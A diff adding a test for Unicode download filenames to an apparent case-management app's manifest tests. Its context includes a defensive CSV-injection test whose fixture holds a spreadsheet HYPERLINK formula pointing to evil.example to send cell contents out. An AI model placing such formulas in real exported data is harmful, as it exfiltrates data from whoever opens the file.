@@ -148,6 +148,23 @@ def test_manifest_of_an_unknown_case_is_404(clerk):
     assert response.status_code == 404 and error_code(response) == "not_found"
 
 
+def test_manifests_of_cases_written_in_other_scripts_download_under_their_own_names(clerk, make_clip, rec_disk):
+    """事件-2026-001 and 盗難-2026-001 both came down as case-__-2026-001-manifest.csv."""
+    from urllib.parse import unquote
+
+    names = {}
+    for case_number in ("事件-2026-001", "盗難-2026-001"):
+        make_clip(store=rec_disk, case_number=case_number)
+        for kind, suffix in (("csv", "-manifest.csv"), ("sha256", ".sha256")):
+            response = api_client(clerk).get(URL.format(case_number), {"reason": "r", "format": kind})
+            assert response.status_code == 200
+            disposition = response["Content-Disposition"]
+            assert disposition.startswith('attachment; filename="case-__-2026-001')  # for old clients
+            names[(case_number, kind)] = unquote(disposition.split("filename*=UTF-8''")[1])
+            assert names[(case_number, kind)] == f"case-{case_number}{suffix}"
+    assert len(set(names.values())) == 4
+
+
 def test_manifest_csv_never_hands_a_spreadsheet_a_formula(case, clerk, rec_disk, officer):
     officer.full_name, officer.badge_number = '=HYPERLINK("http://evil.example/?"&A1,"open")', "@4711"
     officer.save()
